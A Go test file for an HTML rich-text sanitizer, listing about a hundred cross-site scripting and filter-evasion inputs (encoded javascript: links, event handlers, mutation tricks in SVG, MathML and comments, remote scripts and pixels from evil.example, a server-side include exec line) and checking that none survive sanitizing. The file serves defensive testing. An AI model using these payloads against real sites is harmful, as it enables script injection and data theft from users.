package richtext

import (
	"strings"
	"testing"
)

// Each row is one way to smuggle something that runs, loads or deceives past a
// filter; the kinds are those that the OWASP filter evasion sheet describes.
// What must hold is the same for all: see onlyAllowed.
var hostile = []struct{ name, in string }{
	{"script", `<script>alert(1)</script>`},
	{"script from elsewhere", `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`},
	{"script in mixed case", `<ScRiPt>alert(1)</sCrIpT>`},
	{"script with a slash", `<script/src="//evil.example/x.js"></script>`},
	{"script without its end", `<script>alert(1)//`},
	{"script in script", `<scr<script>ipt>alert(1)</scr</script>ipt>`},
	{"end tag first", `</script><script>alert(1)</script>`},
	{"doubled bracket", `<<script>alert(1);//<</script>`},
	{"NUL in a name", "<scr\x00ipt>alert(1)</scr\x00ipt>"},
	{"handler", `<p onclick="alert(1)">x</p>`},
	{"handler without quotes", `<p/onmouseover=alert(1)>x`},
	{"handler after a broken attribute", `<p ""="><img src=x onerror=alert(1)>">x</p>`},
	{"handler with a line feed", "<p on\nclick=alert(1) onfocus\n=alert(2)>x</p>"},
	{"handler on a mention", `<span data-mention="` + someone + `" onclick=alert(1)>@A</span>`},
	{"quote out of a mention", `<span data-mention='` + someone + `"onclick="alert(1)'>@A</span>`},
	{"image handler", `<img src=x onerror=alert(1)>`},
	{"image address", `<img src="javascript:alert(1)">`},
	{"image by dynsrc", `<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">`},
	{"malformed image", `<img """><script>alert("x")</script>">`},
	{"tracking pixel", `<img src="https://evil.example/p.gif" width=1 height=1>`},
	{"srcset", `<img srcset="https://evil.example/p.gif 1x">`},
	{"picture", `<picture><source srcset="https://evil.example/a"><img src="https://evil.example/b"></picture>`},
	{"javascript link", `<a href="javascript:alert(1)">x</a>`},
	{"javascript link in capitals", `<a href="JaVaScRiPt:alert(1)">x</a>`},
	{"javascript link with a tab", "<a href=\"jav\tascript:alert(1)\">x</a>"},
	{"javascript link with entities", `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`},
	{"javascript link with long entities", `<a href="&#0000106&#0000097&#0000118&#0000097script&colon;alert(1)">x</a>`},
	{"javascript link with an encoded line feed", `<a href="jav&#x0A;ascript:alert(1)">x</a>`},
	{"javascript link after controls", `<a href=" &#14; javascript:alert(1)">x</a>`},
	{"javascript link after NUL", "<a href=\"\x00javascript:alert(1)\">x</a>"},
	{"javascript link without quotes", "<a href=`javascript:alert(1)`>x</a>"},
	{"javascript link after a no-break space", "<a href=\"\u00a0javascript:alert(1)\">x</a>"},
	{"javascript in a view-source link", `<a href="view-source:javascript:alert(1)">x</a>`},
	{"vbscript link", `<a href="vbscript:msgbox(1)">x</a>`},
	{"data link", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`},
	{"file link", `<a href="file:///etc/passwd">x</a>`},
	{"relative link", `<a href="/api/v1/session/end">x</a>`},
	{"link by scheme alone", `<a href="https:alert(1)">x</a>`},
	{"link to no host", `<a href="https:///evil.example">x</a>`},
	{"protocol-relative link", `<a href="//evil.example">x</a>`},
	{"link with a user name", `<a href="https://bank.example@evil.example/">x</a>`},
	{"link with a backslash host", `<a href="https:\\evil.example">x</a>`},
	{"link by hand-made target", `<a href="https://evil.example" target="_top" ping="https://evil.example/p" download rel="opener">x</a>`},
	{"quote out of a link", `<a href='https://e.example/"onmouseover="alert(1)'>x</a>`},
	{"two hrefs", `<a href="https://e.example" href="javascript:alert(1)">x</a>`},
	{"mail link with headers in lines", "<a href=\"mailto:a@e.example%0d%0abcc:b@e.example\nX: y\">x</a>"},
	{"style", `<style>body{background:url("javascript:alert(1)")}</style>`},
	{"style import", `<STYLE>@import'https://evil.example/x.css';</STYLE>`},
	{"style attribute", `<p style="background:url(https://evil.example/p.gif);position:fixed">x</p>`},
	{"style expression", `<p style="xss:expr/*x*/ession(alert(1))">x</p>`},
	{"linked style", `<link rel="stylesheet" href="https://evil.example/x.css">`},
	{"refresh", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`},
	{"base", `<base href="javascript:alert(1);//">`},
	{"frame", `<iframe src="javascript:alert(1)"></iframe>`},
	{"frame with a document", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`},
	{"frameset", `<frameset><frame src="javascript:alert(1)"></frameset>`},
	{"object", `<object data="javascript:alert(1)" type="text/html"></object>`},
	{"embed", `<embed src="https://evil.example/x.swf" allowscriptaccess="always">`},
	{"applet", `<applet code="x.class"></applet>`},
	{"body", `<body onload=alert(1) background="javascript:alert(1)">x`},
	{"background of a table", `<table background="javascript:alert(1)"><td background="javascript:alert(1)">x`},
	{"form", `<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">x</button></form>`},
	{"input image", `<input type="image" src="javascript:alert(1)">`},
	{"svg", `<svg onload=alert(1)><script>alert(1)</script></svg>`},
	{"svg use", `<svg><use href="https://evil.example/x.svg#a"/></svg>`},
	{"svg animate", `<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>`},
	{"mathml", `<math href="javascript:alert(1)">x</math>`},
	{"foreign content mutation", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`},
	{"foreign content and form", `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`},
	{"noscript mutation", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`},
	{"title mutation", `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`},
	{"textarea", `<textarea><script>alert(1)</script></textarea><img src=x onerror=alert(1)>`},
	{"xmp", `<xmp><script>alert(1)</script></xmp>`},
	{"plaintext", `<plaintext><script>alert(1)</script>`},
	{"template", `<template><img src=x onerror=alert(1)></template>`},
	{"comment", `<!-- <script>alert(1)</script> -->x`},
	{"comment that ends early", `<!--><img src=x onerror=alert(1)>-->`},
	{"comment that ends late", `<!--<img src="--><img src=x onerror=alert(1)//">`},
	{"conditional comment", `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`},
	{"declaration", `<!DOCTYPE x [<!ENTITY y SYSTEM "https://evil.example">]>&y;`},
	{"CDATA", `<![CDATA[<script>alert(1)</script>]]>`},
	{"processing instruction", `<?xml version="1.0"?><?php echo 1?>x`},
	{"XML island", `<xml><i><b>&lt;img src=javascript:alert(1)&gt;</b></i></xml>`},
	{"server-side include", `<!--#exec cmd="/bin/echo '<script src=x></script>'"-->`},
	{"unclosed tag at the end", `<a href="https://e.example" onclick="alert(1)`},
	{"unclosed comment", `x<!-- y`},
	{"bracket at the end", `x <`},
	{"escaped twice", `&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;`},
	{"encoded overlong", "\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe"},
	{"UTF-7", `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`},
	{"full-width brackets", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"},
	{"id and name", `<p id="app" name="csrf" class="admin">x</p>`},
	{"data for a script framework", `<div data-bind="x" v-html="x" x-on:click="alert(1)" hx-get="/x">x</div>`},
	{"contenteditable", `<p contenteditable autofocus tabindex=1 accesskey=x>x</p>`},
	{"marquee", `<marquee onstart=alert(1)>x</marquee>`},
	{"details", `<details open ontoggle=alert(1)>x</details>`},
	{"video", `<video poster="https://evil.example/p.gif"><source onerror=alert(1)></video>`},
	{"audio", `<audio src=x onerror=alert(1)></audio>`},
	{"bgsound", `<bgsound src="javascript:alert(1)">`},
	{"portal and slots", `<portal src="https://evil.example"></portal><slot onslotchange=alert(1)>`},
	{"custom element", `<x-y onpointerenter=alert(1)>x</x-y>`},
	{"dialog", `<dialog open style="inset:0"><p>x</dialog>`},
}

func TestNothingHostileComesThrough(t *testing.T) {
	t.Parallel()
	s := New()
	for _, c := range hostile {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			for _, in := range []string{c.in, "<p>before" + c.in + "after</p>", "<ul><li><b>" + c.in, "<pre>" + c.in, `<span data-mention="` + someone + `">` + c.in} {
				checkClean(t, s, in)
			}
			if c.in == hostile[0].in {
				return
			}
			checkClean(t, s, c.in+strings.Repeat("<blockquote>", 20)+c.in)
		})
	}
}
